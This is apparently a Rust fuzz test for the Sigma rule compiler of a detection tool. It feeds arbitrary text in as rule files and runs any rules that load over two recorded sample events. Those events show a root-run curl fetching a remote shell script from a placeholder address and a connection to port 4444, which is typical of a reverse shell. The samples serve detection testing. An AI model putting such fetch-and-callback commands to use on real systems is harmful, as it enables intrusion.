//! Sigma rule files: any text loads as rules, or is refused with errors of
//! the form `file:line: reason`, never a panic or a hang; rules that load
//! run over an event.
#![no_main]

use std::{collections::BTreeSet, sync::OnceLock};

use libfuzzer_sys::fuzz_target;
use shrike::detect::{
    Detector,
    sigma::{compile, record::event_of_line},
};

fuzz_target!(|data: &[u8]| {
    static FILE: OnceLock<std::path::PathBuf> = OnceLock::new();
    let file = FILE.get_or_init(|| shrike_fuzz::scratch("sigma").join("rules.yml"));
    std::fs::write(file, data).expect("write the rule file");
    let (engine, report) = compile(std::slice::from_ref(file), &BTreeSet::new());
    for e in &report.errors {
        assert!(e.contains("rules.yml"), "an error that does not name its file: {e}");
    }
    if let Some(mut engine) = engine {
        // Recorded events, as `shrike rules test` reads them.
        static EVENTS: OnceLock<Vec<shrike::events::Event>> = OnceLock::new();
        let events = EVENTS.get_or_init(|| {
            [
                r#"{"time":"2026-12-06T06:00:00.000000000Z","ktime_ns":1,"pid":100,"tid":100,"ppid":1,"uid":0,"gid":0,"user":"root","comm":"curl","exe":"/usr/bin/curl","kind":"exec","filename":"/usr/bin/curl","argv":["curl","-s","http://198.51.100.7/x.sh"],"result":0,"success":true}"#,
                r#"{"time":"2026-12-06T06:00:01.000000000Z","ktime_ns":2,"pid":100,"tid":100,"uid":0,"gid":0,"comm":"curl","kind":"connect","fd":3,"protocol":"tcp","family":"ipv4","remote_addr":"198.51.100.7","remote_port":4444,"local_addr":"10.0.0.2","local_port":40000,"result":0,"status":"success"}"#,
            ]
            .iter()
            .filter_map(|l| event_of_line(l).ok().flatten())
            .collect()
        });
        let mut alerts = Vec::new();
        for ev in events {
            engine.observe(ev, &mut alerts);
        }
    }
});
